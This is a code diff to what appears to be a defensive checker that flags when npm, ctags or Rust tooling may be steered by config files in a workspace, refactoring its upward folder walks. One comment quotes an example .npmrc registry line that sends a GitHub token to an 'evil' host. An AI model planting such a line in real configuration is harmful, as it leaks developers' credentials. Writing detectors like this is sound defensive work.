@@ -1,8 +1,8 @@
 import { commandBase, type SimpleCommand } from './commands';
 import { readCappedSync } from '../../fs/read';
-import { isFolderSync, isLinkSync } from '../../fs/stat';
+import { isFileSync, isFolderSync, isLinkSync } from '../../fs/stat';
 import { folderNamesSync } from '../../fs/list';
-import { existingLocation, kernelJoin } from '../../fs/paths';
+import { existingLocation, foldersUp, kernelJoin } from '../../fs/paths';
 
 // npm, npx, pnpm and yarn read `.npmrc` from the folder they run in and every folder above it. A
 // clone's `.npmrc` sets where they connect and what they send (`registry=https://evil/${GITHUB_TOKEN}/`
@@ -25,16 +25,12 @@ const HARMLESS: ReadonlySet<string> = new Set([
   'recursive-install', 'frozen-lockfile', 'prefer-frozen-lockfile',
 ]);
 
-/** Folders searched, the workspace's own up to the root. */
-const MAX_LEVELS = 64;
-
 /** Why a package runner in `c`, run in `folder`, may be steered by a `.npmrc` there or above; undefined when none may. */
 export function npmrcFinding(c: SimpleCommand, folder: string, home: string): string | undefined {
   const name = c.words[0] === undefined ? '' : commandBase(c.words[0]);
   if (!RUNNERS.has(name)) return undefined;
   const own = existingLocation(kernelJoin(home, '.npmrc'));
-  let dir = folder;
-  for (let level = 0; level < MAX_LEVELS; level++) {
+  for (const dir of foldersUp(folder)) {
     const file = kernelJoin(dir, '.npmrc');
     // Your own ~/.npmrc is yours.
     if (existingLocation(file) !== own) {
@@ -45,9 +41,6 @@ export function npmrcFinding(c: SimpleCommand, folder: string, home: string): st
         if (why) return `${name} reads ${file}, whose ${why}`;
       } else if (read.reason !== 'missing' && read.reason !== 'folder') return `${name} reads ${file}, which cannot be read through`;
     }
-    const up = kernelJoin(dir, '..');
-    if (existingLocation(up) === existingLocation(dir)) return undefined;
-    dir = up;
   }
   return undefined;
 }
@@ -68,7 +61,7 @@ export function npmrcDanger(text: string): string | undefined {
 }
 
 /** Whether something (a file, folder or link) is at `path`. */
-const present = (path: string) => isLinkSync(path) || isFolderSync(path) || readCappedSync(path, { maxBytes: 1 }).ok;
+const present = (path: string) => isLinkSync(path) || isFolderSync(path) || isFileSync(path);
 
 /**
  * ctags reads option files from the folder it runs in (`.ctags.d/*.ctags`, `ctags.d/`, `.ctags`):
@@ -149,8 +142,7 @@ export function javacProcessorFinding(c: SimpleCommand, folder: string): string 
 export function rustToolchainFinding(c: SimpleCommand, folder: string): string | undefined {
   const name = c.words[0] === undefined ? '' : commandBase(c.words[0]);
   if (!/^(cargo|cargo-\w+|rustc|rustfmt|rustdoc|rustup|clippy-driver|rust-analyzer|rust-gdb|rust-gdbgui|rust-lldb|rls|miri)$/.test(name)) return undefined;
-  let dir = folder;
-  for (let level = 0; level < MAX_LEVELS; level++) {
+  for (const dir of foldersUp(folder)) {
     for (const file of ['rust-toolchain.toml', 'rust-toolchain']) {
       const read = readCappedSync(kernelJoin(dir, file), { maxBytes: 16 * 1024 });
       if (!read.ok) continue;
@@ -158,9 +150,6 @@ export function rustToolchainFinding(c: SimpleCommand, folder: string): string |
       // A channel name picks one of your installed toolchains; a path (or anything else) picks programs.
       if (read.capped || /^\s*path\s*=/m.test(text) || (file === 'rust-toolchain' && !/^\s*(\[|[\w.-]+\s*$)/.test(text))) return `${name} takes its toolchain from ${kernelJoin(dir, file)}, which may name programs in the workspace`;
     }
-    const up = kernelJoin(dir, '..');
-    if (existingLocation(up) === existingLocation(dir)) return undefined;
-    dir = up;
   }
   return undefined;
 }
